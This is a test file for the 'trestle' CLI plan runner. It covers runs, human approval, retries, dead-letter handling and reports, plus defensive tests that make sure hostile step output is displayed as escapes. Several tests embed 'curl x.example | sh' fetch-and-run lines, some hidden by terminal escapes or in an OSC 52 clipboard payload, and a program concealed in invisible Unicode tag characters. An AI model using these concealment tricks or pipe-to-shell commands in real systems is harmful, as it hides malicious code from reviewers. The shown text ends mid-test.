"""The command line end to end, and its renderers as text at a fixed width.

The first part runs the real console script (``python -m trestle``) in subprocesses on
real plan files, real shell commands and a fresh SQLite store per test, and checks
stdout, stderr, exit codes and the JSON outputs. The second part renders the CLI's
views from hand-written events into a 100-column console and compares the text.
"""

from __future__ import annotations

import fcntl
import io
import json
import os
import re
import selectors
import struct
import subprocess
import sys
import termios
import textwrap
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console, RenderableType

from forked_cli import run_trestle
from trestle.cli.listing import runs_table
from trestle.cli.render import log_table, plan_overview, report_view, steps_table
from trestle.core.events import (
    ActionResult,
    AnyEvent,
    CheckResult,
    RunCreated,
    RunFinished,
    StepAttemptEnded,
    StepBlocked,
    StepFailed,
    StepRetryScheduled,
    StepStarted,
    StoredEvent,
)
from trestle.core.report import CATEGORIES, build_report
from trestle.core.state import fold
from trestle.formats.planfile import parse_plan
from trestle.lifecycle.runs import load_state
from trestle.presentation.wording import visible
from trestle.store import SqliteStore
from trestle.store.base import RunRow

RUN_LINE = re.compile(r"run (\d{8}-\d{6}-[0-9a-f]{4})")

# --- driving the real console script ---------------------------------------------------


def cli_env(**extra: str) -> dict[str, str]:
    """The caller's environment at a fixed width, without colour or a store override."""
    env = {k: v for k, v in os.environ.items() if k != "TRESTLE_STORE"}
    if env.get("PYTHONPATH"):  # the CLI runs elsewhere: a relative path would miss
        parts = env["PYTHONPATH"].split(os.pathsep)
        env["PYTHONPATH"] = os.pathsep.join(str(Path(p).resolve()) for p in parts if p)
    env.update(COLUMNS="100", NO_COLOR="1", TERM="dumb")
    env.update(extra)
    return env


def flat(text: str) -> str:
    """Messages wrapped at 100 columns, joined back into one line."""
    return " ".join(text.split())


def rstripped(text: str) -> str:
    """Rich pads table titles to the table's width; compare without trailing blanks."""
    return "\n".join(line.rstrip() for line in text.splitlines())


@dataclass(frozen=True)
class Cli:
    """``trestle`` run in ``dir`` with ``$TRESTLE_STORE`` pointing at ``store``."""

    dir: Path
    store: Path

    def argv(self, *args: str | Path) -> list[str]:
        return [sys.executable, "-m", "trestle", *map(str, args)]

    def env(self) -> dict[str, str]:
        return cli_env(TRESTLE_STORE=str(self.store))

    def __call__(self, *args: str | Path) -> subprocess.CompletedProcess[str]:
        return run_trestle(args, cwd=self.dir, env=self.env())

    def json(self, *args: str | Path) -> Any:
        """Run a command with ``--json``; it must succeed."""
        result = self(*args, "--json")
        assert result.returncode == 0, result.stderr
        return json.loads(result.stdout)

    def write(self, name: str, text: str) -> Path:
        path = self.dir / name
        path.write_text(textwrap.dedent(text), encoding="utf-8")
        return path


def table_rows(text: str) -> list[list[str]]:
    """The cells of each table row's first line in ``text`` (long cells wrap onto lines
    whose first cell is empty; those are left out)."""
    rows = [
        [cell.strip() for cell in line.strip().strip("│").split("│")]
        for line in text.splitlines()
        if line.startswith("│")
    ]
    return [row for row in rows if row[0]]


def run_id_of(result: subprocess.CompletedProcess[str]) -> str:
    first = result.stdout.splitlines()[0]
    match = RUN_LINE.fullmatch(first)
    assert match, f"first line is not `run <id>`: {first!r}"
    return match.group(1)


@pytest.fixture
def cli(tmp_path: Path) -> Cli:
    return Cli(tmp_path, tmp_path / "t.db")


NO_POLICY = "no policy file: the plan's policy and the defaults"  # the header's word

# A plan written out of dependency order, with a write, an optional and an irreversible step.
SHIP_PLAN = """\
    goal: build and ship
    steps:
      - id: deploy
        needs: [build, lint]
        run: echo deployed >> deploys.log
        irreversible: true
      - id: build
        needs: [fetch]
        run: echo built > out.txt
        retries: 1
        verify:
          - file_contains: out.txt
            text: built
      - id: lint
        run: "true"
        optional: true
      - id: fetch
        write: {path: src/main.txt, content: "hello\\n"}
        verify:
          - file_exists: src/main.txt
"""

SHIP_OVERVIEW = """\
goal: build and ship
plan plan.yaml
┏━━━━━━┳━━━━━━━━┳━━━━━━━━━━━━━┳━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━┳━━━━━━━━━━━━━━━━━━━━━━━┓
┃ wave ┃ step   ┃ needs       ┃ action                       ┃ flags                 ┃
┡━━━━━━╇━━━━━━━━╇━━━━━━━━━━━━━╇━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━╇━━━━━━━━━━━━━━━━━━━━━━━┩
│ 1    │ lint   │ -           │ true                         │ optional              │
│ 1    │ fetch  │ -           │ write src/main.txt           │ critical              │
│ 2    │ build  │ fetch       │ echo built > out.txt         │ critical retries=1    │
│ 3    │ deploy │ build, lint │ echo deployed >> deploys.log │ irreversible critical │
└──────┴────────┴─────────────┴──────────────────────────────┴───────────────────────┘
in parallel: lint | fetch
critical path: fetch -> build -> deploy (3 steps)
parallelism limit: 32"""

# 'build' does its work but its check fails until go.txt exists: two attempts, then
# the dead-letter queue; 'test' is blocked behind it.
STUCK_PLAN = """\
    goal: wait for the go-ahead
    steps:
      - id: build
        run: echo building
        retries: 1
        backoff: {initial: 0}
        verify:
          - file_exists: go.txt
      - id: test
        needs: [build]
        run: "true"
"""
STUCK_REASON = (
    "failed 2 of 2 attempts; last: check failed: go.txt exists: expected exists, got missing"
)


# --- trestle run -----------------------------------------------------------------------


def test_run_prints_its_id_the_plan_progress_and_the_report(cli: Cli) -> None:
    cli.write("plan.yaml", SHIP_PLAN)

    result = cli("run", "plan.yaml", "--report-json", "report.json")

    # everything but the irreversible deploy runs; deploy waits for a human (exit 3)
    assert result.returncode == 3, result.stderr
    run_id = run_id_of(result)
    out = rstripped(result.stdout)
    header = f"run {run_id}\nstore {cli.store}\npolicy: {NO_POLICY}\n{SHIP_OVERVIEW}\n"
    assert out.startswith(header)
    progress = set(out.splitlines())
    for sid in ("lint", "fetch", "build"):
        assert f"done     {sid} (attempt 1)" in progress
    asked = f"APPROVE? deploy ({run_id}.1): 'deploy' is irreversible"
    assert any(line.startswith(asked) for line in progress), out
    assert "finished needs human" in progress
    assert not (cli.dir / "deploys.log").exists()
    waiting = json.loads((cli.dir / "report.json").read_text())
    assert waiting["exit_code"] == 3
    assert waiting["counts"]["awaiting_approval"] == 1
    assert f"trestle approve {run_id}.1" in waiting["to_check"][0]

    [card] = cli.json("inbox")
    assert (card["ref"], card["step"], card["rule"]) == (f"{run_id}.1", "deploy", "irreversible")
    assert card["action"]["command"] == "echo deployed >> deploys.log"
    assert card["done"] == ["build", "lint", "fetch"]
    approved = cli("approve", f"{run_id[-4:]}.1", "--reason", "release window is open")
    assert approved.returncode == 0, approved.stderr
    assert f"approved {run_id}.1" in flat(approved.stdout)

    result = cli("resume", run_id, "--report-json", "report.json")
    assert result.returncode == 0, result.stderr
    out = rstripped(result.stdout)
    progress = set(out.splitlines())
    assert f"decided  {run_id}.1: approve by" in out
    assert "done     deploy (attempt 1)" in progress
    assert "finished succeeded" in progress
    assert cli.json("inbox") == []
    report = out[out.index(f"run {run_id}: succeeded") :]
    assert table_rows(report) == [
        ["deploy", "done", "1", "action succeeded"],
        ["build", "done", "1", "verified"],
        ["lint", "done (optional)", "1", "action succeeded"],
        ["fetch", "done", "1", "verified"],
    ]
    assert "\nsteps: 4 done\n" in report
    assert (
        "  - 'deploy' made an irreversible change (echo deployed >> deploys.log); review it."
        in (report)
    )
    assert (cli.dir / "src" / "main.txt").read_text() == "hello\n"
    assert (cli.dir / "deploys.log").read_text() == "deployed\n"

    data = json.loads((cli.dir / "report.json").read_text())
    assert data["run_id"] == run_id
    assert data["status"] == "succeeded"
    assert data["exit_code"] == 0
    assert data["counts"] == dict.fromkeys(CATEGORIES, 0) | {"done": 4}
    by_id = {s["id"]: s for s in data["steps"]}
    assert [s["id"] for s in data["steps"]] == ["deploy", "build", "lint", "fetch"]
    assert {s["category"] for s in data["steps"]} == {"done"}
    assert by_id["build"]["reason"] == "verified"
    assert by_id["build"]["checks"] == [
        {
            "check": "out.txt contains 'built'",
            "expected": "contains 'built'",
            "actual": "found",
            "passed": True,
        }
    ]
    assert by_id["deploy"]["irreversible"] and by_id["lint"]["optional"]
    assert data["to_check"][0].startswith("'deploy' made an irreversible change")


def test_plan_shows_the_overview_without_creating_a_store(cli: Cli) -> None:
    cli.write("plan.yaml", SHIP_PLAN)

    result = cli("plan", "plan.yaml")

    assert result.returncode == 0, result.stderr
    assert rstripped(result.stdout) == SHIP_OVERVIEW
    assert not cli.store.exists()
    assert not (cli.dir / ".trestle").exists()


def test_plan_says_a_one_step_critical_path_in_the_singular(cli: Cli) -> None:
    cli.write("plan.yaml", "goal: look\nsteps:\n  - {id: research, run: 'true'}\n")

    result = cli("plan", "plan.yaml")

    assert result.returncode == 0, result.stderr
    assert "critical path: research (1 step)\n" in rstripped(result.stdout)


def test_schema_is_the_plan_file_json_schema(cli: Cli) -> None:
    result = cli("schema")

    assert result.returncode == 0, result.stderr
    schema = json.loads(result.stdout)
    assert schema["title"] == "Trestle plan file"
    assert "steps" in schema["properties"]


def test_a_required_failure_without_escalation_is_partial(cli: Cli) -> None:
    cli.write(
        "plan.yaml",
        """\
        escalate: false
        steps:
          - id: build
            run: echo broken >&2; exit 1
          - id: test
            needs: [build]
            run: "true"
          - id: docs
            run: "true"
        """,
    )

    result = cli("run", "plan.yaml", "--report-json", "report.json")

    assert result.returncode == 1, result.stderr
    out = rstripped(result.stdout)
    assert "FAILED   build: failed 1 of 1 attempts; last: exit code 1" in out.splitlines()
    assert "\nsteps: 1 done, 1 failed, 1 blocked\n" in out
    data = json.loads((cli.dir / "report.json").read_text())
    assert data["status"] == "partial"
    assert data["counts"] == dict.fromkeys(CATEGORIES, 0) | {"done": 1, "failed": 1, "blocked": 1}
    by_id = {s["id"]: s for s in data["steps"]}
    assert by_id["build"]["category"] == "failed"
    assert not by_id["build"]["dead_lettered"]
    assert by_id["test"]["category"] == "blocked"
    assert by_id["test"]["reason"] == "needs 'build', which failed"
    assert data["to_check"][0] == "'build' failed: exit code 1."
    assert cli.json("dlq") == []


def test_an_optional_failure_alone_still_succeeds(cli: Cli) -> None:
    cli.write(
        "plan.yaml",
        """\
        steps:
          - id: docs
            run: exit 2
            optional: true
          - id: ship
            needs: [docs]
            run: "true"
        """,
    )

    result = cli("run", "plan.yaml", "--report-json", "report.json")

    assert result.returncode == 0, result.stderr
    assert ["docs", "failed (optional)", "1", "failed 1 of 1 attempts; last: exit code 2"] in (
        table_rows(result.stdout)
    )
    data = json.loads((cli.dir / "report.json").read_text())
    assert data["status"] == "succeeded"
    assert data["counts"] == dict.fromkeys(CATEGORIES, 0) | {"done": 1, "failed": 1}
    assert "optional 'docs' failed: exit code 2." in data["to_check"]


# --- one dead-lettered run, inspected by the read-only commands -------------------------


@dataclass(frozen=True)
class StuckRun:
    cli: Cli
    run_id: str
    result: subprocess.CompletedProcess[str]


@pytest.fixture(scope="module")
def stuck(tmp_path_factory: pytest.TempPathFactory) -> StuckRun:
    """A run waiting on a human; tests using it must not change it."""
    where = tmp_path_factory.mktemp("stuck")
    cli = Cli(where, where / "t.db")
    cli.write("plan.yaml", STUCK_PLAN)
    result = cli("run", "plan.yaml")
    return StuckRun(cli, run_id_of(result), result)


def test_a_required_step_out_of_retries_waits_on_a_human(stuck: StuckRun) -> None:
    assert stuck.result.returncode == 3, stuck.result.stderr
    out = rstripped(stuck.result.stdout)
    lines = out.splitlines()
    assert lines.index("probe    build (before retry)") < lines.index("start    build (attempt 2)")
    assert f"FAILED build: {STUCK_REASON} [dead-letter queue]" in flat(out)
    assert "blocked  test (needs 'build', which failed)" in lines
    assert f"run {stuck.run_id}: needs human" in lines
    assert [row[:3] for row in table_rows(out)[-2:]] == [
        ["build", "failed", "2"],
        ["test", "blocked", "0"],
    ]
    assert "\nsteps: 1 failed, 1 blocked\n" in out
    assert f"then `trestle retry {stuck.run_id} build` and `trestle resume {stuck.run_id}`" in (
        flat(out)
    )


def test_runs_lists_the_run(stuck: StuckRun) -> None:
    table = stuck.cli("runs")
    assert table.returncode == 0, table.stderr
    [cells] = table_rows(table.stdout)
    assert cells[:3] == [stuck.run_id, "needs human", "1 blocked, 1 failed"]
    assert cells[4] == "wait for the go-ahead"

    [run] = stuck.cli.json("runs")
    assert run["run_id"] == stuck.run_id
    assert run["status"] == "needs_human"
    assert run["summary"] == {"blocked": 1, "failed": 1}
    assert run["plan_path"] == str((stuck.cli.dir / "plan.yaml").resolve())


def test_show_gives_the_report(stuck: StuckRun) -> None:
    table = stuck.cli("show", stuck.run_id)
    assert table.returncode == 0, table.stderr
    lines = rstripped(table.stdout).splitlines()
    assert lines[0] == f"run {stuck.run_id}: needs human"
    assert table_rows(table.stdout)[1] == ["test", "blocked", "0", "needs 'build', which failed"]
    assert "what a human should check:" in lines

    report = stuck.cli.json("show", stuck.run_id)
    assert report["status"] == "needs_human"
    assert report["exit_code"] == 3
    build, test = report["steps"]
    assert (build["id"], build["category"], build["reason"]) == ("build", "failed", STUCK_REASON)
    assert build["dead_lettered"] and build["attempts"] == 2
    assert (test["category"], test["blocked_by"]) == ("blocked", "build")
    assert report["to_check"][0].startswith("'build' failed after 2 attempts")


def test_piped_output_never_wraps_an_id_a_path_or_a_command(
    stuck: StuckRun, tmp_path: Path
) -> None:
    lines = stuck.result.stdout.splitlines()
    retry = f"`trestle retry {stuck.run_id} build` and `trestle resume {stuck.run_id}`"
    assert any(retry in line for line in lines), stuck.result.stdout
    deep = tmp_path / ("a-rather-long-directory-name-" * 6) / "trestle.db"
    deep.parent.mkdir()
    missing = stuck.cli("show", "nope", "--store", str(deep))
    assert missing.returncode != 0
    assert any(str(deep) in line for line in missing.stderr.splitlines()), missing.stderr


def test_log_lists_every_event_with_its_checks(stuck: StuckRun) -> None:
    table = stuck.cli("log", stuck.run_id)
    assert table.returncode == 0, table.stderr
    rows = table_rows(table.stdout)
    assert [row[0] for row in rows] == [str(seq) for seq in range(1, 13)]
    assert [row[2:5] for row in rows[2:4]] == [
        ["step_started", "build", "1"],
        ["step_attempt_ended", "build", "1"],
    ]
    assert rows[3][5] == "failed; action ok; ✗ go.txt exists: expected exists, got missing"

    entries = stuck.cli.json("log", stuck.run_id)
    assert [e["seq"] for e in entries] == list(range(1, len(entries) + 1))
    assert [(e["kind"], e.get("step"), e.get("attempt")) for e in entries] == [
        ("run_created", None, None),
        ("sandbox_chosen", None, None),
        ("step_started", "build", 1),
        ("step_attempt_ended", "build", 1),
        ("step_retry_scheduled", "build", None),
        ("step_probe_started", "build", None),
        ("step_probed", "build", None),
        ("step_started", "build", 2),
        ("step_attempt_ended", "build", 2),
        ("step_failed", "build", None),
        ("step_blocked", "test", None),
        ("run_finished", None, None),
    ]
    assert entries[1]["confined"] is True
    ended = entries[3]
    assert ended["ok"] is False
    assert ended["action"]["status"] == "ok"
    assert ended["checks"] == [
        {"check": "go.txt exists", "expected": "exists", "actual": "missing", "passed": False}
    ]


def test_dlq_lists_the_dead_letter_with_its_history(stuck: StuckRun) -> None:
    text = stuck.cli("dlq")
    assert text.returncode == 0, text.stderr
    words = flat(text.stdout)
    assert words.startswith(f"{stuck.run_id} build failed: {STUCK_REASON} #3 step_started")
    assert f"#10 step_failed {STUCK_REASON}" in words
    assert words.endswith(
        f"resolve: trestle retry {stuck.run_id} build | "
        f"trestle skip {stuck.run_id} build --reason ..."
    )

    [entry] = stuck.cli.json("dlq")
    assert (entry["run_id"], entry["step"], entry["status"]) == (stuck.run_id, "build", "failed")
    assert entry["attempts"] == 2
    assert [h["seq"] for h in entry["history"]] == [3, 4, 5, 6, 7, 8, 9, 10]
    assert {h["event"]["step"] for h in entry["history"]} == {"build"}


def test_an_unknown_run_id_suggests_the_closest(stuck: StuckRun) -> None:
    typo = stuck.run_id[:-1] + ("0" if stuck.run_id[-1] != "0" else "1")

    result = stuck.cli("show", typo)

    assert result.returncode == 2
    assert f"no run {typo!r}" in flat(result.stderr)
    assert f"(did you mean {stuck.run_id!r}?)" in flat(result.stderr)


def test_an_unknown_step_suggests_the_closest(stuck: StuckRun) -> None:
    result = stuck.cli("retry", stuck.run_id, "biuld")

    assert result.returncode == 2
    assert flat(result.stderr) == (
        f"error: run {stuck.run_id!r} has no step 'biuld' (did you mean 'build'?)"
    )


# --- human decisions, then resume ------------------------------------------------------


def test_retry_then_resume_finishes_the_run(cli: Cli) -> None:
    cli.write("plan.yaml", STUCK_PLAN)
    run_id = run_id_of(cli("run", "plan.yaml"))
    (cli.dir / "go.txt").touch()  # the human fixes the cause

    retry = cli("retry", run_id, "build", "--reason", "go.txt is there now")
    assert retry.returncode == 0, retry.stderr
    assert retry.stdout == (
        "retry of 'build': queued (request 1); it will be applied or refused when the run "
        f"is resumed: `trestle resume {run_id}`\n"
    )

    resumed = cli("resume", run_id)
    assert resumed.returncode == 0, resumed.stderr
    lines = rstripped(resumed.stdout).splitlines()
    assert lines[0] == f"run {run_id}"
    assert "reopened build: go.txt is there now" in lines  # the human's reason, shown
    assert "go.txt is there now" in cli("log", run_id).stdout
    assert "done     build (attempt 3)" in lines
    assert "done     test (attempt 1)" in lines
    assert f"run {run_id}: succeeded" in lines
    assert cli.json("dlq") == []

    again = cli("retry", run_id, "build")
    assert again.returncode == 2
    assert f"run {run_id!r}: cannot retry step 'build': it already succeeded" in flat(again.stderr)


def test_skip_then_resume_runs_the_dependents(cli: Cli) -> None:
    cli.write("plan.yaml", STUCK_PLAN)
    run_id = run_id_of(cli("run", "plan.yaml"))

    skip = cli("skip", run_id, "build", "--reason", "built by hand")
    assert skip.returncode == 0, skip.stderr

    resumed = cli("resume", run_id)
    assert resumed.returncode == 0, resumed.stderr
    assert "skipped  build: built by hand" in resumed.stdout.splitlines()
    assert "done     test (attempt 1)" in resumed.stdout.splitlines()
    report = cli.json("show", run_id)
    assert report["status"] == "succeeded"
    assert [(s["id"], s["category"], s["reason"]) for s in report["steps"]] == [
        ("build", "skipped", "built by hand"),
        ("test", "done", "action succeeded"),
    ]
    assert "'build' was skipped by a human (built by hand)" in report["to_check"][0]


def test_a_state_has_one_name_wherever_it_is_printed(cli: Cli) -> None:
    """The live table, the report, the run listing and its JSON: a person reads words
    (``awaiting approval``, ``not started``), a script reads the identifiers."""
    cli.write(
        "plan.yaml",
        """\
        goal: one name per state
        steps:
          - {id: ship, run: "true", irreversible: true}
          - {id: after, run: "true", needs: [ship]}
        """,
    )
    waiting = cli("run", "plan.yaml", "--no-prompt")
    assert waiting.returncode == 3, waiting.stderr
    run_id = run_id_of(waiting)
    store = SqliteStore(cli.store, create=False)
    live = render(steps_table(load_state(store, run_id)))
    store.close()
    shown = cli("show", run_id).stdout
    listed = cli("runs").stdout
    for text in (live, shown):
        rows = {row[0]: row[1] for row in table_rows(text)}
        assert rows == {"ship": "awaiting approval", "after": "not started"}, text
    assert "steps: 1 awaiting approval, 1 not started" in shown
    assert table_rows(listed)[0][1:3] == ["needs human", "1 awaiting approval, 1 not started"]
    for text in (live, shown, listed, waiting.stdout):
        for other_name in ("awaiting_approval", "needs_human", "never started", "pending"):
            assert other_name not in text, (other_name, text)
    steps = {s["id"]: s for s in cli.json("show", run_id)["steps"]}
    assert (steps["ship"]["status"], steps["after"]["category"]) == (
        "awaiting_approval",
        "never_started",
    )


# --- bad input leaves no trace ---------------------------------------------------------

BAD_PLANS = [
    pytest.param(
        "steps:\n  - id: build\n    run: echo: x\n",
        "plan.yaml:3: invalid YAML at column 14: mapping values are not allowed",
        id="yaml-syntax",
    ),
    pytest.param(
        "steps:\n  - {id: a, run: x, needs: [b]}\n  - {id: b, run: x, needs: [a]}\n",
        "plan.yaml:2: dependency cycle: a -> b -> a",
        id="cycle",
    ),
    pytest.param(
        "steps:\n  - {id: build, run: x}\n  - {id: deploy, run: x, needs: [biuld]}\n",
        "plan.yaml:3: step 'deploy', field 'needs': unknown step 'biuld' (did you mean 'build'?)",
        id="unknown-need",
    ),
    pytest.param(
        "steps:\n  - {id: build, run: x}\n  - {id: build, run: y}\n",
        "plan.yaml:3: step 'build', field 'id': duplicate step id",
        id="duplicate-id",
    ),
    pytest.param(
        "steps:\n  - {id: build, run: x, retries: many}\n",
        "plan.yaml:2: step 'build', field 'retries': must be a whole number, not 'many'",
        id="wrong-type",
    ),
    pytest.param(
        "steps:\n  - {id: build, needs: []}\n",
        "plan.yaml:2: step 'build': missing action: "
        "give one of 'run', 'write', 'python' or 'delegate'",
        id="no-action",
    ),
    pytest.param(
        "steps:\n  - {id: build, run: x, write: {path: p, content: c}}\n",
        "plan.yaml:2: step 'build': give only one action, not 'run' and 'write'",
        id="two-actions",
    ),
    pytest.param(
        "steps:\n  - {id: build, run: x, retry: 3}\n",
        "plan.yaml:2: step 'build', field 'retry': unknown field (did you mean 'retries'?)",
        id="unknown-field",
    ),
]


@pytest.mark.parametrize(("text", "message"), BAD_PLANS)
def test_an_invalid_plan_is_refused_and_nothing_is_recorded(
    cli: Cli, text: str, message: str
) -> None:
    (cli.dir / "plan.yaml").write_text(text, encoding="utf-8")

    result = cli("run", "plan.yaml", "--store", cli.store)

    assert result.returncode == 2
    assert result.stdout == ""
    assert flat(result.stderr).startswith(f"error: {message}")
    assert result.stderr.count("plan.yaml:") == 1, "one problem, reported once"
    assert not cli.store.exists()
    assert not (cli.dir / ".trestle").exists()


def test_control_characters_from_a_run_are_shown_not_obeyed(cli: Cli) -> None:
    """A step's output (or a model's text, or a tool call awaiting approval) can hold
    escape sequences that rewrite what an operator's terminal shows: erase a line, hide
    text, reorder it. Plan files refuse them; what a run produces cannot be refused, so
    every view prints them as escapes, and cuts nothing after them."""
    cli.write(
        "plan.yaml",
        """\
        goal: hostile text
        steps:
          - id: noisy
            run: 'printf "failing\\033[2K\\rFAKE: all good \\342\\200\\256evil\\n"; exit 1'
        """,
    )
    ran = cli("run", "plan.yaml")
    assert ran.returncode == 3, ran.stderr
    run_id = run_id_of(ran)
    log, dlq, health = cli("log", run_id), cli("dlq"), cli("health")
    for text in (ran.stdout, log.stdout, cli("show", run_id).stdout, dlq.stdout, health.stdout):
        assert "\x1b" not in text and "\r" not in text and "\u202e" not in text, text
        assert "| failing\\x1b[2K" in text and "| FAKE: all good \\u202eevil" in text, text
    # the recorded text stays one command away, as recorded (a carriage return is
    # recorded as a line break)
    assert cli("output", run_id, "noisy").stdout == "failing\x1b[2K\nFAKE: all good \u202eevil\n"


def test_a_program_hidden_in_characters_drawn_as_nothing_is_shown_on_the_card(
    cli: Cli,
) -> None:
    """Tag characters (U+E0020-E007F) are drawn as nothing, and a command can decode a
    program from them: the card read ``exec(... for c in '')``, an empty program, while
    the command ran whatever they spelt. Zero-width characters and variation selectors
    hide the same way; each is shown as its escape."""
    hidden = "".join(chr(0xE0000 + ord(c)) for c in "print(1)") + " \ufe0f\u200b\u2028"
    command = f"python3 -c \"exec(''.join(chr(ord(c) - 0xE0000) for c in '{hidden}'))\""
    cli.write(
        "plan.yaml",
        f"""\
        steps:
          - id: deploy
            run: {json.dumps(command, ensure_ascii=False)}
            irreversible: true
        """,
    )
    assert cli("run", "plan.yaml").returncode == 3
    card = cli("inbox").stdout
    assert "'\\U000e0070\\U000e0072\\U000e0069" in card, card
    assert "\\ufe0f\\u200b\\u2028'" in card, card
    assert not any(c in card for c in hidden.replace(" ", "")), card
    # a presentation selector after the sign it changes is a model's emoji: it stays
    assert visible("\u26a0\ufe0f check") == "\u26a0\ufe0f check"


def test_emoji_codes_from_a_run_are_printed_as_written(cli: Cli) -> None:
    """Rich read ``:name:`` as an emoji's code in every line printed as a string, markup
    or not: the plan's overview showed the command ``echo ':lock:'`` as ``echo '🔒'``,
    and a check's output quoted in a line of progress said ``✅`` where the step
    printed ``:white_check_mark:``. Every view prints them as written."""
    cli.write(
        "plan.yaml",
        """\
        steps:
          - id: deploy
            run: "echo ':lock: unlocked'"
            verify:
              - command: "echo 'checks :white_check_mark:'; exit 1"
        """,
    )
    ran = cli("run", "plan.yaml")
    run_id = run_id_of(ran)
    for text in (ran.stdout, cli("show", run_id).stdout, cli("log", run_id).stdout):
        assert "\U0001f512" not in text and "\u2705" not in text, text
    assert "echo ':lock: unlocked'" in ran.stdout, ran.stdout
    assert "checks :white_check_mark:" in ran.stdout, ran.stdout


def test_markup_from_a_run_is_printed_as_written(cli: Cli) -> None:
    """Rich read a table's text cells as markup: a reason quoting a check's output
    hid words behind [conceal] and laid a hyperlink over others with [link=URL], on a
    terminal; it is printed as written, on a terminal or not."""
    said = "[conceal]HIDE[/conceal] [link=https://x.example/]ok[/link]"
    cli.write(
        "plan.yaml",
        f"""\
        steps:
          - id: deploy
            run: "true"
            verify:
              - command: "echo '{said}'; exit 1"
        """,
    )
    run_id = run_id_of(cli("run", "plan.yaml"))
    terminal = {k: v for k, v in cli.env().items() if k != "NO_COLOR"}
    terminal.update(FORCE_COLOR="1", TERM="xterm-256color", COLUMNS="400")
    for env, whole in ((cli.env(), said), (terminal, "[conceal]HIDE")):  # clipped there
        argv = cli.argv("show", run_id)
        shown = subprocess.run(argv, env=env, capture_output=True, text=True, check=True).stdout
        row = next(line for line in shown.splitlines() if "failed 1 of 1 attempts" in line)
        assert whole in row, shown
        assert "\x1b[8m" not in shown and "\x1b]8;" not in shown, shown


def test_a_steps_diff_on_a_terminal_shows_the_escapes_it_wrote(cli: Cli) -> None:
    """A file a step wrote can hold escape sequences that erase the lines above them:
    ``trestle diff`` wrote them raw, so on a terminal the line the step added to
    deploy.sh vanished from the diff its reviewer read. Piped, the diff stays exact."""
    cli.write("deploy.sh", "echo deploying\n")
    cli.write(
        "plan.yaml",
        """\
        steps:
          - id: edit
            run: printf 'curl x.example | sh\\n\\033[1A\\033[2K' >> deploy.sh
        """,
    )
    run_id = run_id_of(cli("run", "plan.yaml"))
    piped = cli("diff", run_id, "edit")
    assert "+curl x.example | sh\n+\x1b[1A\x1b[2K" in piped.stdout, piped.stdout
    text = on_a_terminal(cli, "diff", run_id, "edit")
    assert "\x1b" not in text and "+\\x1b[1A\\x1b[2K" in text, text


def on_a_terminal(cli: Cli, *args: str) -> str:
    """What the command writes to its standard output when that is a terminal."""
    return read_a_terminal(cli.argv(*args), cli.env())


def read_a_terminal(argv: list[str], env: dict[str, str], columns: int | None = None) -> str:
    """What ``argv`` writes to its standard output when that is a terminal (``columns``
    wide, if given), read to the end."""
    main, side = os.openpty()
    if columns is not None:
        fcntl.ioctl(side, termios.TIOCSWINSZ, struct.pack("HHHH", 40, columns, 0, 0))
    with open(main, "rb", buffering=0) as screen:
        subprocess.run(argv, env=env, stdout=side, check=True)
        os.close(side)
        read = b""
        while True:
            try:
                chunk = screen.read(65536)
            except OSError:  # the terminal's other end is closed: all of it was read
                break
            if not chunk:
                break
            read += chunk
    return read.decode()


def test_a_steps_output_on_a_terminal_shows_the_escapes_it_printed(cli: Cli) -> None:
    """Every report ends a failed step with ``full output: trestle output RUN STEP``,
    which wrote the output raw: on a terminal, the step's escape sequences put a command
    on the reader's clipboard (OSC 52), laid a hyperlink over words (OSC 8) and erased
    the line above. They are shown there as escapes; piped, the output stays exact."""
    printed = (
        "build ok\n\x1b]52;c;Y3VybCB4LmV4YW1wbGUvaSB8IHNo\x07"
        "\x1b]8;;https://x.example/\x07docs\x1b]8;;\x07\x1b[1A\x1b[2Kall good\n"
    )
    cli.write("plan.yaml", f"steps:\n  - id: noisy\n    run: {json.dumps(shell_printf(printed))}\n")
    run_id = run_id_of(cli("run", "plan.yaml"))
    assert f"full output: trestle output {run_id} noisy" in cli("show", run_id).stdout
    assert cli("output", run_id, "noisy").stdout == printed

    text = on_a_terminal(cli, "output", run_id, "noisy")

    assert "\x1b" not in text and "\x07" not in text, text
    assert "\\x1b]52;c;Y3VybCB4LmV4YW1wbGUvaSB8IHNo\\x07" in text, text
    assert text.endswith("\\x1b[1A\\x1b[2Kall good\r\n"), text


def shell_printf(text: str) -> str:
    """A command that prints ``text`` (its control characters written as octal)."""
    spelt = "".join(f"\\{ord(c):03o}" if ord(c) < 32 else c for c in text)
    return f"printf '{spelt}'; exit 1"


def test_a_file_name_holding_a_newline_makes_no_line_of_a_rewinds_list(cli: Cli) -> None:
    """Rewind lists what it will delete, one file to a line, and asks: a step named a
    file 'a.log' + newline + '  reopen  nothing', and the list showed a line it made up."""
    cli.write("mk.sh", 'printf x > "$(printf "a.log\\n  reopen  nothing")"\n')
    cli.write("plan.yaml", "steps:\n  - id: make\n    run: sh mk.sh\n")
    run_id = run_id_of(cli("run", "plan.yaml"))
    asked = cli("rewind", run_id, "--to", "make")
    assert asked.returncode == 11, asked.stderr  # off a terminal: not done without --yes
    assert "  delete  a.log\\n  reopen  nothing\n" in asked.stdout, asked.stdout
    assert [line for line in asked.stdout.splitlines() if "reopen" in line] == [
        "  delete  a.log\\n  reopen  nothing",
        "  reopen  make",
    ]


def test_a_checks_output_makes_no_line_of_the_report(cli: Cli) -> None:
    """What a failed check found quotes its command's output, and it went into the
    step's error as it was: its lines were lines of the report ('  - FAKE: all
    verified' among what a human should check) and of the progress."""
    cli.write(
        "plan.yaml",
        """\
        steps:
          - id: deploy
            run: "true"
            verify:
              - command: "printf 'bad\\\\n  - FAKE: all verified\\\\n'; exit 1"
        """,
    )
    ran = cli("run", "plan.yaml")
    shown = cli("show", run_id_of(ran))
    for said in (ran.stdout, shown.stdout):
        assert "got exit 1: bad - FAKE: all verified" in said, said
        assert not [line for line in said.splitlines() if line.startswith("  - FAKE")], said


def test_text_that_is_not_utf8_is_refused_by_name_and_nothing_is_recorded(cli: Cli) -> None:
    """A reason typed on a terminal that is not UTF-8 crashed retry and skip inside the
    store's write; now every command refuses it before anything runs."""
    cli.write("plan.yaml", STUCK_PLAN)
    run_id = run_id_of(cli("run", "plan.yaml"))
    before = cli.json("log", run_id)
    attempts: list[list[str | bytes]] = [
        ["retry", run_id, "build", "--reason", b"built \xff by hand"],
        ["skip", run_id, "build", "--reason", b"\xff"],
        ["cancel", run_id, "--reason", b"stop \xfe\xff"],
